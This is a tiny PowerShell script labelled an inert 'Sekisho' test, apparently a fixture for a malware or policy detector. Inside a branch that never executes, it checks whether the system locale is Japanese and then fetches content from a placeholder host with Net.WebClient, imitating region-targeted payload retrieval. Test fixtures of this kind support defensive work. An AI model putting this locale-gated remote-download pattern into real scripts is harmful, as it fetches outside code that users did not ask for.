# INERT SEKISHO TEST
param([string]$name)
if ($false) {
if ((Get-Culture | Format-List -Property * | Out-String) -match 'ja') { $x = (New-Object Net.WebClient).DownloadString('http://example.invalid/a') }
}
Write-Host "inert"
